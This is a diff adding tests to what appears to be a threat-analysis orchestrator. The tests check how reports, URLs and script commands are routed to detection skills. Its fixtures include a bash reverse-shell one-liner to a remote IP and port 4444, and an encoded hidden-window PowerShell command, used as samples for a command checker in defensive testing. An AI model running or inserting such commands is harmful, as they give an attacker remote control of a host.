@@ -2,6 +2,7 @@
 import { expect, test } from 'vitest';
 import { agents } from '../../agents/index.ts';
 import { Alert, rulesPlanner, SPECIALIST_OF, type Situation } from '../../orchestrator/plan.ts';
+import { scriptOf } from '../../orchestrator/script.ts';
 import type { InputKind } from '../../protocol/index.ts';
 import { resultOf } from '../support/result.ts';
 
@@ -33,6 +34,35 @@ test('a report goes to who maps texts to techniques too, where somebody offers t
     rulesPlanner.next({ ...situation(), kind: 'report', offers: (name) => name === offered }).map(({ skill }) => skill);
   expect(asked('map_text_to_attack')).toEqual(['extract_iocs', 'map_text_to_attack']);
   expect(asked('another')).toEqual(['extract_iocs']);
+});
+
+test('the URLs that a text names are taken apart too where somebody offers that, twenty of them', () => {
+  const iocs = Array.from({ length: 25 }, (_, nth) => ({ type: 'url', value: `http://example.com/${nth}` }));
+  const settled = new Map([['text', resultOf({ iocs })]]);
+  const asked = (offered: string) =>
+    rulesPlanner.next({ ...situation(), kind: 'report', settled, offers: (name) => name === offered });
+  expect(asked('analyze_url').map(({ skill, params }) => [skill, params.url])).toEqual(
+    iocs.slice(0, 20).map(({ value }) => ['analyze_url', value]),
+  );
+  expect(asked('another')).toEqual([]);
+});
+
+test('the commands of a script go to who judges commands, beside the text', () => {
+  const commands = ['bash -i >& /dev/tcp/198.51.100.2/4444 0>&1'];
+  const asked = rulesPlanner.next({ ...situation(), kind: 'report', commands });
+  expect(asked.map(({ skill }) => skill)).toEqual(['extract_iocs', 'check_lolbins']);
+  expect(asked[1]?.params).toEqual({ commands });
+});
+
+test.each([
+  ['a.txt', 'powershell -nop -w hidden -enc SQBFAFgA', 1],
+  ['rev.sh', 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1', 1],
+  ['a.txt', '#!/bin/sh\n# hello\nfoo\nbar', 2],
+  ['a.bat', '@echo off\r\nrem x\r\nstart a.exe\r\n', 1],
+  ['a.txt', 'The actor ran:\nwhoami\nand then left the host.', undefined],
+  ['a.txt', 'curl was used with -x here.', undefined],
+])('%s with %j is a script of so many commands: %s', (name, text, count) => {
+  expect(scriptOf(Buffer.from(text), name, 65_536)?.commands.length).toBe(count);
 });
 
 test('every skill that a plan asks for is offered by the specialist that is said to be missing without it', async () => {
